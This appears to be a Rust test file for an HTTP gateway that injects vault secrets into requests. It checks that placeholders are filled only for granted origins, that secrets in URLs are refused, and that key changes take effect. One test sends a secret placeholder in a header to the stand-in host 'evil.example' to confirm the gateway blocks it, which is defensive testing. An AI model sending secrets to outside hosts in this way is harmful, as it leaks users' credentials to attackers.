//! Secrets in requests: for granted origins only, and only where they may stand.

use super::*;

fn vault(source: Source) -> Arc<Vault> {
    let secret = Arc::new(Secret::new(source));
    Arc::new(Vault::new(
        [("key".to_owned(), secret)].into(),
        Default::default(),
    ))
}

#[tokio::test]
async fn a_placeholder_becomes_the_value_in_headers_and_small_bodies_of_granted_origins() {
    let (address, count) = server(echo).await;
    let url = format!("http://{address}");
    let mut way = Way::to(std::slice::from_ref(&url));
    way.vault = vault(Source::text("hunter22"));
    let vault = way.vault.clone();
    let gateway = way.open();
    let plain = vault.placeholder("key", String::new(), Encoding::Plain).unwrap();
    let basic = vault
        .placeholder("key", "user:".into(), Encoding::Base64)
        .unwrap();

    let body = format!("{{\"password\":\"{plain}\"}}");
    let mut request = put(&url, body.len(), full(body));
    request
        .headers_mut()
        .insert("authorization", format!("Basic {basic}").parse().unwrap());
    let said = text(gateway.clone().send(request, None).await.unwrap())
        .await
        .unwrap();
    assert!(
        said.contains("authorization: Basic dXNlcjpodW50ZXIyMg=="),
        "{said}"
    );
    assert!(
        said.ends_with("{\"password\":\"hunter22\"}") && said.contains("content-length: 23"),
        "{said}"
    );

    // A body beyond 64 KiB is not looked through.
    let body = format!("{plain}{}", " ".repeat(64 << 10));
    let said = gateway
        .clone()
        .send(put(&url, body.len(), full(body)), None)
        .await
        .unwrap();
    assert!(text(said).await.unwrap().contains(&plain));

    let before = count.load(Ordering::SeqCst);
    for (url, place) in [
        (format!("{url}/{plain}"), "a secret in a URL"),
        (format!("{url}/?x={plain}"), "a secret in a URL"),
    ] {
        assert!(matches!(
            fails(&gateway, get(&url)).await,
            Error::HttpRequestDenied
        ));
        assert_eq!(denied(&gateway).wanted, place);
    }
    let mut request = get(&url);
    *request.method_mut() = plain.to_uppercase().parse().unwrap();
    gateway.clone().send(request, None).await.unwrap();
    let mut request = get("http://evil.example/");
    request.headers_mut().insert("x", plain.parse().unwrap());
    assert!(matches!(fails(&gateway, request).await, Error::HttpRequestDenied));
    assert!(denied(&gateway).wanted.contains("evil.example"));
    assert_eq!(count.load(Ordering::SeqCst), before);
}

#[tokio::test]
async fn a_key_that_was_changed_at_its_source_holds_from_the_next_request_on() {
    let (address, _) = server(echo).await;
    let url = format!("http://{address}");
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("key");
    std::fs::write(&file, "first").unwrap();
    let mut way = Way::to(std::slice::from_ref(&url));
    way.vault = vault(Source::File(file.clone()));
    let token = way
        .vault
        .placeholder("key", String::new(), Encoding::Plain)
        .unwrap();
    let gateway = way.open();
    let ask = || {
        let mut request = get(&url);
        request.headers_mut().insert("x-key", token.parse().unwrap());
        request
    };
    let said = text(gateway.clone().send(ask(), None).await.unwrap())
        .await
        .unwrap();
    assert!(said.contains("x-key: first"), "{said}");
    std::fs::write(&file, "second").unwrap();
    let said = text(gateway.clone().send(ask(), None).await.unwrap())
        .await
        .unwrap();
    assert!(said.contains("x-key: second"), "{said}");
    std::fs::remove_file(&file).unwrap();
    let error = fails(&gateway, ask()).await;
    assert!(matches!(error, Error::InternalError(Some(text)) if text.contains("cannot be read")));
}
